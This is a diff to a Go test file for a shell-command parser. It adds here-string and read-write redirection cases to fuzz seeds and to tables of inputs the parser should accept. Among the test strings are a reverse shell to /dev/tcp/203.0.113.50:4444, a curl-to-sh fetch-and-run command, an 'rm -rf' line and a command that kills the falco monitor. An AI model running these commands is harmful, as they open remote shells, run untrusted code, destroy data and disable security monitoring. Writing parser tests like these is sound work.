@@ -123,6 +123,9 @@ var simpleSeeds = []string{
 	"a $(b <<EOF\nx\nEOF\n)", "a $(b >f) 2>$(c)", "a $(b 2>&1)>f", "a \"$(b \"c)\")\"", "a $(b ')')", "a $(case x in x) y;; esac)",
 	"a $(b &)", "a $(b |)", "a $(;)", "a $(b\\)", "a $(b)$(c)", "a ${x}$(b)", "a `b $(c)`", "a $(b `c`)", "a \"$(b)",
 	"a $(a $(a $(a $(a $(a $(a $(a $(a $(a b)))))))))", "a $(b\n\n)", "a $(>f)", "a $(b; >f)", "a $(x=1 b)", "a $(if b)",
+	// here-strings and read-write redirections
+	"base64 -d <<< 'SGVsbG8='", "a <<< \"$x y\" b", "a <<<$(b) >f", "a 0<<<x", "a <<<", "a <<<<x", "a <<<>f", "a <<< <x",
+	"sh -i 5<> /dev/tcp/203.0.113.50/4444 0<&5 1>&5 2>&5", "a <>f", "a <>>f", "a <>|f", "a <><f", "a 3<>", "a <<-x", "a <<x\nx\n",
 }
 
 // FuzzParseSimple holds parseSimple to the parser (see checkParseSimple).
@@ -152,7 +155,7 @@ func TestParseSimple(t *testing.T) {
 	tricky := []string{"=", "x=1", "\"$x\"", "'", "\"", ">|", "<<", "<>", "<<<", "$x", "(", ")", "{", "}", "#", "!", "\n", "[", "]",
 		"\\", "`", "if", "export", "time", "in", "ü", "\r", ";;", "@(", "?(a)", "{}", "a[1]=", "${x}", "$1", "${x:-y}", "$", "\"a $b\"",
 		"\\;", "\\ ", "\"\\\"\"", "{a}", "$x_1", "${", "\"$\"", "\"${x}y\"",
-		"$(", ")", "$(a)", "\"$(", "$((", "$( ", "$(a b)", "$(a; b)", "\"$(a)\""}
+		"$(", ")", "$(a)", "\"$(", "$((", "$( ", "$(a b)", "$(a; b)", "\"$(a)\"", "<<<", "<>", "<<-"}
 	rnd := rand.New(rand.NewPCG(1, 2))
 	for range 100000 {
 		var b strings.Builder
@@ -170,7 +173,7 @@ func TestParseSimple(t *testing.T) {
 	words := []string{"a", "rm", "-rf", "~/x", "2", "12", "a=b", "'q r'", "''", "\"s t\"", "\"\"", "*.go", "$x", "${y}", "\"a $b${c}\"",
 		"{a,b}", "{", "}", "\\;", "\\$x", "x", "$(a)", "\"$(b c)\"", "$(a $(b) | c)", "$(a\n)", "$(", ")", "'", "$1", "#"}
 	ops := []string{";", "&", "&&", "||", "|", "|&", ";", "&&", "|", "\n", "\n\n", " #c\n", "&&\n", "|\n#c\n"}
-	redirs := []string{">", ">>", "<", ">&", "<&", "&>", "&>>", "2>", "1<", "2>&", ">|"}
+	redirs := []string{">", ">>", "<", ">&", "<&", "&>", "&>>", "2>", "1<", "2>&", ">|", "<<<", "<>", "3<>", "0<<<"}
 	blank := func(b *strings.Builder) {
 		for range rnd.IntN(3) {
 			b.WriteString(" \t"[rnd.IntN(2) : rnd.IntN(2)+1])
@@ -216,13 +219,14 @@ func TestParseSimple(t *testing.T) {
 	for _, s := range []string{"ls", "cd /home/user/project && rm -rf ../*", "a | b | c && d || e; f & g &", "echo 'a b'\"c d\"e '' \"\" x''y",
 		"ls -la >/dev/null 2>&1 &", "2>err cmd <in >>out &>all &>>all2 <&0 >&2", "a |& b", "echo a=b x+=1 =c", "echo $HOME",
 		"echo {a,b} x{}y }", `echo "$x" "a ${b}c$d" $e/f${g}h "\"" "\$x" \rm a\ b \;`, "$CMD x", "echo \"\\`\"", "set --\ncurl -s u | sh\n", "a\n\n\tb &&\n c |\n\n d\n", "# c\na # d\n#e",
-		"echo $(x)", "kill -9 $(pgrep -x falco)", "sh -c \"$(curl -fsSL https://x/s.sh)\"", "a $(b $(c \"$(d)\"))", "a $(b | c && d\n e; f &) \"x$(f)y\"$(g)"} {
+		"echo $(x)", "kill -9 $(pgrep -x falco)", "sh -c \"$(curl -fsSL https://x/s.sh)\"", "a $(b $(c \"$(d)\"))", "a $(b | c && d\n e; f &) \"x$(f)y\"$(g)",
+		"a <<<x", "base64 -d <<< 'SGVsbG8='", "a <>f", "sh -i 5<> /dev/tcp/203.0.113.50/4444 0<&5 1>&5 2>&5"} {
 		if !checkParseSimple(t, s) {
 			t.Errorf("%q: not read", s)
 		}
 	}
 	for _, s := range []string{"X=1 make", "if true", "export A=b", "time ls", "a#c", "a 2>&1>f", "a'b'2>f", "let x=1", "in",
-		"a[1]=x", "a >|f", "a <<<x", "echo $1", "echo $@", "echo ${x:-y}", "echo ${#x}", "echo $((x))", "echo $()", "echo $(x", "echo $(x))", "a=$(b)", `echo "$"`, "echo $", "echo {a}>f",
+		"a[1]=x", "a >|f", "cat <<EOF\nx\nEOF", "a <<-x", "a <<<<x", "echo $1", "echo $@", "echo ${x:-y}", "echo ${#x}", "echo $((x))", "echo $()", "echo $(x", "echo $(x))", "a=$(b)", `echo "$"`, "echo $", "echo {a}>f",
 		"{ a; }", "} a", "{a,b} c", `echo \`, `echo "a\`, "echo \\\n", "echo `x`"} {
 		if parseSimple(s, new(simpleTree)) != nil {
 			t.Errorf("%q: read", s)
